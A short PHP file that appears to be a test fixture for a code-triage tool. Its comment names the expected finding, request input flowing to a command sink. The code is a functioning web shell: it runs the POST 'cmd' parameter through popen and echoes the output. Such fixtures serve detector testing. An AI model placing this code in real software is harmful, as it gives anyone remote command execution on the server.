<?php
// triage-expect: triage_php_request_var_to_sink
// The command gets a shell prefix before it reaches popen.
$cmd = $_POST['cmd'];
if ($cmd) {
    $h = popen("exec 2>&1; " . $cmd, 'r');
    while (!feof($h)) { echo htmlspecialchars(fread($h, 4096)); }
    pclose($h);
}
